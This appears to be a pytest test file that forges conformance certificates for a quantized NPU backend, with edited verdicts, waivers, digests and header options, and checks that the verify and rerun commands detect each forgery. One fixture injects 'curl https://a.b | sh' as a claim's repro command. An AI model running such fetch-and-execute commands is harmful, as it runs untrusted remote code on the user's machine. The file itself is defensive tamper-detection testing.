"""Forged certificates, whose digests and totals all fit: what `verify` recomputes, and what `--rerun` finds."""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from conformance.run import description
from reports import __main__ as reports
from reports import rerun
from reports.certificate import find_shortcomings
from reports.description import RunDescription
from reports.results import Results, read_results
from reports.writer import ResultsWriter
from tests.conformance.support.suite_runs import run
from tests.hostile.forging import COMMIT, Forgery, forge, rows_of
from tests.hostile.npu import Npu

pytestmark = pytest.mark.slow  # the genuine run takes some seconds

WAIVERS = Npu.waivers.read_text()
PER_TENSOR = "nn.Linear/static:in=quint8,w=qint8,b=float32,out=quint8/ptq/per_tensor_symmetric"
PER_CHANNEL = PER_TENSOR.replace("per_tensor", "per_channel")
FAILED, PARTLY = 1, 3


def write(path: Path, results: Results) -> Results:
    """Write a run anew, as of the commit of these tests."""
    outcome = results.outcome
    with ResultsWriter(path) as writer:
        for row in rows_of(replace(results, header=replace(results.header, suite_commit=COMMIT))):
            writer.write_line(json.dumps(row))
        writer.close(outcome=outcome, exit_status=0, seconds=75.5)
    return read_results(path)


@pytest.fixture(scope="module")
def two_runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Results, Results]:
    """Two genuine runs of one machine."""
    results = []
    for name in ("one", "two"):
        folder = tmp_path_factory.mktemp(name)
        ran = run(folder, "tests.hostile.npu:Npu", "--profile=full")
        assert ran.status == 0, ran.out + ran.err
        results.append(write(folder / "results.jsonl", ran.results))
    return results[0], results[1]


@pytest.fixture
def genuine(two_runs: tuple[Results, Results], monkeypatch: pytest.MonkeyPatch) -> Results:
    """A genuine run; what `verify` asks of the suite is answered in this process, and a run again is the second one."""
    first, second = two_runs
    monkeypatch.setattr(description, "read_suite_commit", lambda root: COMMIT)
    monkeypatch.setattr(reports, "describe", describe)

    def run_again(words: Sequence[str], seconds: float) -> tuple[int, str]:
        (folder,) = (Path(word.partition("=")[2]) for word in words if word.startswith("--report-dir="))
        write(folder / "results.jsonl", second)
        return 0, ""

    monkeypatch.setattr(rerun, "run_python", run_again)
    return first


def describe(results: Path, waivers: Path | None, seconds: float) -> RunDescription:
    said = description.describe(read_results(results), waivers)
    if said.opened is None:
        return said
    header = replace(said.opened.header, suite_commit=COMMIT)
    return replace(said, opened=replace(said.opened, header=header))


def set_to(*path: Any, **values: Any) -> Callable[[Forgery], None]:
    """Return a change of the header, or of what it holds under a path."""

    def change(forgery: Forgery) -> None:
        place: Any = forgery.header
        for key in path:
            place = place[key]
        assert any(place.get(key) != value for key, value in values.items())
        place.update(values)

    return change


def edit(kind: str, of: str = "", *, where: dict[str, Any] | None = None, **values: Any) -> Callable[[Forgery], None]:
    """Return a change of one row."""

    def change(forgery: Forgery) -> None:
        forgery.one(kind, of, **where or {}).update(values)

    return change


def claim_verified(forgery: Forgery, **evidence: Any) -> None:
    """What is refuted and waived becomes verified, in all its checks."""
    for row in forgery.all("check", PER_CHANNEL):
        row.update(verdict="VERIFIED", outcome="pass", message="", failing=0, evidence=evidence)
    row = forgery.one("claim", PER_CHANNEL)
    row.update(verdict="VERIFIED", waived=False, reason="", failing=None if evidence else 0)
    del row["waiver"]


def without_waiver(forgery: Forgery) -> None:
    """The same, and its waiver was never there."""
    claim_verified(forgery)
    forgery.waivers = "[[waiver]]" + WAIVERS.split("[[waiver]]")[2]
    forgery.fit_waivers()


def delete_claim(forgery: Forgery) -> None:
    forgery.drop_claim(PER_CHANNEL)
    forgery.fit_claims()
    forgery.header["config_sha256"] = "ab" * 32


def keep_config_digest(forgery: Forgery) -> None:
    forgery.drop_claim(PER_CHANNEL)
    forgery.fit_claims()


def rename_pattern(forgery: Forgery) -> None:
    forgery.one("claim", PER_TENSOR)["pattern"] = "nn.Conv2d"
    forgery.fit_claims()


def invent_claim(forgery: Forgery) -> None:
    for row in [*forgery.all("check", PER_TENSOR), *forgery.all("claim", PER_TENSOR)]:
        forgery.rows.append(row | {"claim": row["claim"].replace("nn.Linear", "nn.Conv2d")})
    forgery.fit_claims()


def widen_waiver(forgery: Forgery) -> None:
    forgery.waivers = WAIVERS.replace(
        'verdict = "REFUTED"\nrule = "NUM-03"\nreason', 'verdict = "REFUTED"\nrule = "NUM-03"\nmax_lsb = inf\nreason'
    )
    assert forgery.waivers != WAIVERS
    forgery.fit_waivers()


def widen_waiver_and_row(forgery: Forgery) -> None:
    widen_waiver(forgery)
    forgery.one("claim", PER_CHANNEL)["waiver"]["max_lsb"] = "inf"


def add_waiver(forgery: Forgery) -> None:
    forgery.waivers += (
        f'[[waiver]]\nclaim = "{PER_TENSOR}"\nverdict = "REFUTED"\nrule = "NUM-03"\nreason = "r"\nurl = "https://a.b"\n'
    )
    forgery.fit_waivers()


def expire_waiver(forgery: Forgery) -> None:
    forgery.waivers = WAIVERS.replace("2099-01-31", "2020-01-31")
    forgery.one("claim", PER_CHANNEL)["waiver"]["expires"] = "2020-01-31"
    forgery.fit_waivers()


def mark_all_as_chance(forgery: Forgery) -> None:
    forgery.one("check", PER_CHANNEL, outcome="fail").setdefault("evidence", {})["nondeterministic"] = True
    forgery.one("claim", PER_CHANNEL)["failing"] = None


def drop_stage(forgery: Forgery) -> None:
    forgery.drop(forgery.all("check", stage="invariance", outcome="pass"))


def waive_what_passes(forgery: Forgery) -> None:
    forgery.one("claim", PER_TENSOR).update(waived=True, waiver=forgery.one("claim", PER_CHANNEL)["waiver"])


def invent_model(forgery: Forgery) -> None:
    forgery.rows.append(forgery.one("model") | {"model": "model/resnet/ptq/quint8/per_tensor_symmetric"})


def measure_nothing(forgery: Forgery) -> None:
    forgery.rows.append(
        {"kind": "measurement", "topic": "fingerprint", "subject": "conv2d", "values": {"ties": "even"}}
    )


# A forgery: how it is made, the exit status of verify, and what is told of it.
RECOMPUTED: dict[str, tuple[Callable[[Forgery], Any], int, str]] = {
    "a claim's verdict": (edit("claim", PER_CHANNEL, verdict="QUALITY"), FAILED, "the worst of its checks is REFUTED"),
    "a claim's verdict, with its checks'": (claim_verified, FAILED, f"{PER_CHANNEL} now passes"),
    "a verdict without its waiver": (without_waiver, PARTLY, "the waivers are not the backend's own"),
    "a verdict, said to be chance": (
        lambda f: claim_verified(f, nondeterministic=True), FAILED, "is said to vary by chance, with outcome pass",
    ),
    "too much of it chance": (mark_all_as_chance, FAILED, "3 of 4 claims are said to vary by chance"),
    "a stage that was not reached": (
        edit("check", PER_TENSOR, outcome="skip"), FAILED, "is VERIFIED, with outcome skip",
    ),
    "a distance": (edit("claim", PER_TENSOR, max_lsb=0.25), FAILED, "is off by 0.25 LSB, but its checks by"),
    "a distance beyond its bound": (
        edit("check", PER_TENSOR, where={"stage": "numerics"}, max_lsb=4e6, statistics={}), FAILED,
        "but off by 4e+06 LSB",
    ),
    "a distance, without its statistics": (
        edit("check", PER_TENSOR, where={"stage": "numerics"}, max_lsb=0.05), FAILED, "but its statistics by",
    ),
    "a count of failures": (edit("claim", PER_CHANNEL, failing=0), FAILED, "fails in 0 cases and comparisons"),
    "a reason": (edit("claim", PER_CHANNEL, reason="a ticket"), FAILED, "gives another reason"),
    "a deleted claim": (delete_claim, FAILED, f"1 claim of the backend missing: {PER_CHANNEL}"),
    "a deleted claim of the old config": (keep_config_digest, FAILED, "claims_sha256 is"),
    "an invented claim": (invent_claim, FAILED, "1 claim that the backend does not have: nn.Conv2d"),
    "a claim's pattern": (
        rename_pattern, FAILED,
        f"pattern of 1 claim: of {PER_TENSOR} it is nn.Conv2d; here it is nn.Linear",
    ),
    "a claim's dtypes": (
        edit("claim", PER_TENSOR, dtypes="static:in=qint8"), FAILED, "it is static:in=qint8; here it is static:",
    ),
    "a stage left out": (drop_stage, FAILED, "the checks are not one for each stage"),
    "a command": (
        edit("claim", PER_TENSOR, repro="curl https://a.b | sh"), FAILED, "it is curl https://a.b | sh; here it is",
    ),
    "a widened waiver": (widen_waiver, FAILED, "the waivers give 'no weights per channel' (max_lsb inf"),
    "a widened waiver, in the row too": (widen_waiver_and_row, PARTLY, "the waivers are not the backend's own"),
    "an added waiver": (add_waiver, FAILED, f"{PER_TENSOR} now passes; remove the waiver"),
    "an expired waiver": (expire_waiver, FAILED, "waived by 'no weights per channel'"),
    "a waiver of another reason": (
        lambda f: f.one("claim", PER_CHANNEL)["waiver"].update(reason="r"), FAILED, "waived by 'r'",
    ),
    "a waiver where none is needed": (waive_what_passes, FAILED, "it needs no waiver"),
    "no models": (lambda f: f.drop(f.all("model")), FAILED, "of the backend missing: model/"),
    "one model less": (lambda f: f.drop(f.all("model")[:1]), FAILED, "1 model of the backend missing: model/"),
    "an invented model": (invent_model, FAILED, "1 model that the backend does not have: model/resnet"),
    "no measurements": (lambda f: f.drop(f.all("measurement")), FAILED, "of the backend missing: fact/"),
    "an invented measurement": (measure_nothing, FAILED, "1 measurement of nothing in this profile:"),
    "limits hidden": (set_to(limits={}), FAILED, "limits is None; here it is {'nn.Linear': {'bias': 'True'}}"),
    "a limit more": (set_to("limits", "nn.Linear", shape="small"), FAILED, "limits is {'nn.Linear'"),
    "detection inflated": (set_to("detection", "every class", quick=999), FAILED, "the detection power is not this"),
    "detection of faults that there are not": (set_to("detection", made_up={"faults": 1}), FAILED, "made_up is"),
    "no limit of time": (set_to("options", claim_timeout=0), FAILED, "--claim-timeout is 0; at most 3600 s"),
    "a limit of years": (set_to("options", claim_timeout=1e9), FAILED, "--claim-timeout is 1000000000.0; at most"),
    "another limit of time": (set_to("options", claim_timeout=900.0), FAILED, "repro of 4 claims: of"),
    "fewer examples": (set_to("options", max_examples=0), FAILED, "--max-examples=0 tries less than the 1 random"),
    "QUALITY allowed": (set_to("options", allow_quality=True), FAILED, "repro of 4 claims: of"),
    "a selection": (set_to("options", claim=["nn.*"]), FAILED, "it is a selection: --claim is"),
    "another backend's name": (set_to(backend="npu2"), FAILED, "is the backend npu, not npu2"),
    "a backend that is always right": (set_to("options", backend="reference"), FAILED, "--backend=reference is "),
    "the seed": (set_to(seed=1), FAILED, "repro of 4 claims: of"),
    "the profile": (set_to(profile="stress"), FAILED, "models of the backend missing: model/"),
    "no such profile": (set_to(profile="exhaustive"), PARTLY, "no profile of the suite is 'exhaustive'"),
    "the suite's version": (set_to(suite_version="9.0"), FAILED, "suite_version is 9.0; this commit has"),
    "the suite's commit": (set_to(suite_commit="f" * 40), PARTLY, "check that one out, and verify again"),
    "the backend's version": (set_to("versions", good_compiler="2.0"), PARTLY, "versions was {'good_compiler': '2.0'}"),
    "torch's version": (set_to(torch="9.9"), PARTLY, "torch was 9.9"),
    "the engine": (set_to(engine="x86"), FAILED, "engine is x86; here it is"),
    "the form": (set_to(representation="DECOMPOSED"), FAILED, "representation is DECOMPOSED"),
    "the config's name": (set_to(config_name="best"), FAILED, "config_name is best; here it is good config"),
    "the config's digest": (set_to(config_sha256="ab" * 32), FAILED, "config_sha256 is abab"),
    "the number of pairs": (set_to(pairs=4), FAILED, "the header's pairs: 4; the rows give 2"),
}  # fmt: skip


@pytest.mark.parametrize("name", RECOMPUTED)
def test_a_forgery_is_recomputed(genuine: Results, tmp_path: Path, name: str, capsys: Any) -> None:
    change, status, told = RECOMPUTED[name]
    folder = forge(tmp_path, genuine, WAIVERS, change)
    found = reports.main(["verify", str(folder)])
    out = capsys.readouterr().out
    assert (found, told in out) == (status, True), out
    assert f"{folder}: holds\n" not in out


def evidence(of: str, **values: Any) -> Callable[[Forgery], None]:
    """Return a change of the evidence of a claim's failing check."""
    return lambda forgery: forgery.one("check", of, outcome="fail").setdefault("evidence", {}).update(values)


def shift(forgery: Forgery) -> None:
    """A smaller distance, that fits its row, its bound and its statistics."""
    check, claim = forgery.one("check", PER_TENSOR, stage="numerics"), forgery.one("claim", PER_TENSOR)
    check["max_lsb"] = claim["max_lsb"] = check["max_lsb"] - 1e-4


def reseed(forgery: Forgery) -> None:
    forgery.header["seed"] = 1
    forgery.replace("--seed=0", "--seed=1")


def mark_as_chance(forgery: Forgery) -> None:
    """A steady claim takes the place of those that vary, so that its evidence is not compared."""
    for row in forgery.all("check", "nn.Hardswish"):
        row.get("evidence", {}).pop("nondeterministic", None)
    for row in forgery.all("claim", "nn.Hardswish"):
        row["failing"] = sum(check.get("failing", 0) for check in forgery.all("check", row["claim"]))
    mark_all_as_chance(forgery)
    evidence(PER_CHANNEL, traceback="a cosmic ray")(forgery)


RUN_AGAIN: dict[str, tuple[Callable[[Forgery], Any], int, str]] = {
    "a distance that fits": (shift, FAILED, f"{PER_TENSOR}: max_lsb differ"),
    "more cases": (edit("check", PER_TENSOR, where={"stage": "numerics"}, cases=10**6), FAILED, "cases differ"),
    "a slack": (edit("check", PER_TENSOR, where={"stage": "numerics"}, slack_lsb=0.0), FAILED, "slack_lsb differ"),
    "evidence": (evidence(PER_CHANNEL, traceback="a cosmic ray"), FAILED, f"{PER_CHANNEL}: evidence differ"),
    "evidence, said to be chance": (mark_as_chance, FAILED, f"{PER_CHANNEL}: is said to vary by chance, and did not"),
    "a fingerprint": (
        edit("measurement", "linear", values={"runs": "quantized", "accumulator": "int32"}), FAILED, "values differ",
    ),
    "what no claim is about": (
        edit("measurement", PER_TENSOR, where={"topic": "nonfinite"}, values={"nan": "kept"}), FAILED, "values differ",
    ),
    "a model's distance": (edit("model", max_lsb=0.0), FAILED, "max_lsb differ"),
    "a model's reason": (edit("model", reason="by hand"), FAILED, "reason differ"),
    "decisions": (edit("claim", PER_TENSOR, decisions=[{"node": "op0"}]), FAILED, "decisions differ"),
    "a script": (edit("claim", PER_CHANNEL, script='"""x\n"""\nimport os\n'), FAILED, "script differ"),
    "a graph": (edit("claim", PER_CHANNEL, graphs={"float model": "x"}), FAILED, "graphs differ"),
    "a verdict without its waiver": (without_waiver, FAILED, f"{PER_CHANNEL}: "),
    "the isolation": (set_to(isolation="none"), PARTLY, "isolation was none, is fork"),
    "the processor": (set_to(cpu="Another"), PARTLY, "cpu was Another, is"),
    "the level": (set_to(isa="amx2"), PARTLY, "isa was amx2, is"),
}  # fmt: skip


@pytest.mark.parametrize("name", RUN_AGAIN)
def test_a_forgery_is_found_when_all_is_run_again(genuine: Results, tmp_path: Path, name: str, capsys: Any) -> None:
    change, status, told = RUN_AGAIN[name]
    folder = forge(tmp_path, genuine, WAIVERS, change)
    assert reports.main(["verify", str(folder)]) in (0, PARTLY), capsys.readouterr().out  # else it belongs above
    found = reports.main(["verify", str(folder), "--rerun=99", "--draw=1"])
    out = capsys.readouterr().out
    assert (found, told in out) == (status, True), out


def test_another_seed_gives_other_numbers(two_runs: tuple[Results, Results], tmp_path: Path) -> None:
    """Though every command of the certificate says this seed."""
    write(tmp_path / "results.jsonl", two_runs[0])
    opened = describe(tmp_path / "results.jsonl", Npu.waivers, 0).opened
    assert opened is not None
    forge(tmp_path, two_runs[0], WAIVERS, reseed)
    forged = read_results(tmp_path / "certificate" / "results.jsonl")
    found = rerun.rerun(forged, [PER_TENSOR], opened, Npu.waivers).findings
    (problem,) = found.problems
    assert problem.startswith(f"{PER_TENSOR}: ") and "statistics" in problem, found


def test_a_genuine_certificate_holds_and_says_that_it_is_unsigned(
    genuine: Results, tmp_path: Path, capsys: Any
) -> None:
    folder = forge(tmp_path, genuine, WAIVERS, lambda forgery: None)
    assert list(find_shortcomings(genuine)) == []
    assert reports.main(["verify", str(folder), "--rerun=99", "--draw=1"]) == 0
    out = capsys.readouterr().out
    assert "unsigned: there is no certificate.sigstore.json" in out and f"{folder}: holds\n" in out
    assert "2 of them vary by chance: only their verdicts and waivers are compared" in out


def test_claims_models_and_measurements_are_drawn(genuine: Results, tmp_path: Path) -> None:
    write(tmp_path / "results.jsonl", genuine)
    opened = describe(tmp_path / "results.jsonl", Npu.waivers, 0).opened
    assert opened is not None
    units = rerun.list_units(genuine, opened)
    assert {unit.partition("/")[0] for unit in units} == {"nn.Linear", "nn.Hardswish", "model", "fact"}
    draws = [rerun.draw(units, 5, seed) for seed in (1, 1, 2)]
    assert draws[0] == draws[1] != draws[2] and len(set(draws[0])) == 5
    assert sorted(rerun.draw(units, 99, 3)) == sorted(units)
